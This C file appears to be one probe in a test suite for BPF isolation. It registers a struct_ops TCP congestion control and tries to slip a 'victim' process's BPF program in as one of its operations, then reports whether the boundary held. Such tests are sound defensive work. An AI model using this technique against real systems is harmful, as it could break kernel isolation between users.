// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Gives the kernel operations made of programs (struct_ops): a congestion control, which a socket then uses; and one with a program of the
 * victim's in it.
 * Success: a leg falls, or the kernel takes the victim's program.
 */
#include "bpf.h"
#include <arpa/inet.h>
#include <linux/btf.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#define OPERATIONS "tcp_congestion_ops"
#define VALUE "bpf_struct_ops_" OPERATIONS
#define NAME "attack"

static char value[1024];

static void put_program(const char *operation, int program)
{
	*(uint64_t *)&value[kernel_member(VALUE, "data").offset + kernel_member(OPERATIONS, operation).offset] = program;
}

/* The kernel asks for types of the program's own, and looks at none. */
static int load_types(void)
{
	static const struct {
		struct btf_header head;
		struct btf_type integer;
		uint32_t bits;
		char strings[5];
	} types = {
		.head = { .magic = BTF_MAGIC, .version = BTF_VERSION, .hdr_len = sizeof(types.head), .type_len = 16, .str_off = 16, .str_len = 5 },
		.integer = { .name_off = 1, .info = BTF_KIND_INT << 24, .size = 4 },
		.bits = 32,
		.strings = "\0int",
	};
	union bpf_attr attr = { .btf = (uint64_t)&types, .btf_size = sizeof(types.head) + types.head.type_len + types.head.str_len };

	return must("BPF_BTF_LOAD", bpf(BPF_BTF_LOAD, &attr, sizeof(attr)));
}

static int create(void)
{
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_STRUCT_OPS,
		.key_size = 4,
		.value_size = kernel_member(VALUE, "data").size_of_all,
		.max_entries = 1,
		.btf_fd = load_types(),
		.btf_vmlinux_value_type_id = kernel_type(VALUE, BTF_KIND_STRUCT),
	};

	return must("BPF_MAP_CREATE", bpf(BPF_MAP_CREATE, &attr, sizeof(attr)));
}

static void add_operation(const char *operation, int answer)
{
	struct program program = {
		.type = BPF_PROG_TYPE_STRUCT_OPS,
		.attach_to = kernel_type(OPERATIONS, BTF_KIND_STRUCT),
		.attach_type = kernel_member(OPERATIONS, operation).index,
	};

	put_program(operation, must("BPF_PROG_LOAD", LOAD(program, SET(BPF_REG_0, answer), RETURN)));
}

static void run(void)
{
	int zero = 0, map = create(), one = socket(AF_INET, SOCK_STREAM, 0), victims;

	add_operation("ssthresh", 2);
	add_operation("undo_cwnd", 2);
	add_operation("cong_avoid", 0);
	strcpy(&value[kernel_member(VALUE, "data").offset + kernel_member(OPERATIONS, "name").offset], NAME);
	must("BPF_MAP_UPDATE_ELEM", update_map(map, &zero, value, BPF_ANY));
	act("TCP_CONGESTION", setsockopt(one, IPPROTO_TCP, TCP_CONGESTION, NAME, strlen(NAME)));
	close(one);
	if (!all_hold())
		got("a leg fell");
	must("BPF_MAP_DELETE_ELEM", delete_entry(map, &zero));
	victims = by_id(BPF_PROG_GET_FD_BY_ID, id_of("victim/programs/hold"), 0);
	if (victims < 0)
		return;
	put_program("cong_avoid", victims);
	strcpy(&value[kernel_member(VALUE, "data").offset + kernel_member(OPERATIONS, "name").offset], NAME "s");
	if (update_map(create(), &zero, value, BPF_ANY) == 0)
		got("a program of the victim's is called as another operation");
}

ATTACK("gives the kernel operations made of programs", .run = run,
       .because = "mode `pins` leaves them to others: none decides in our place, and the kernel takes no program of another type");
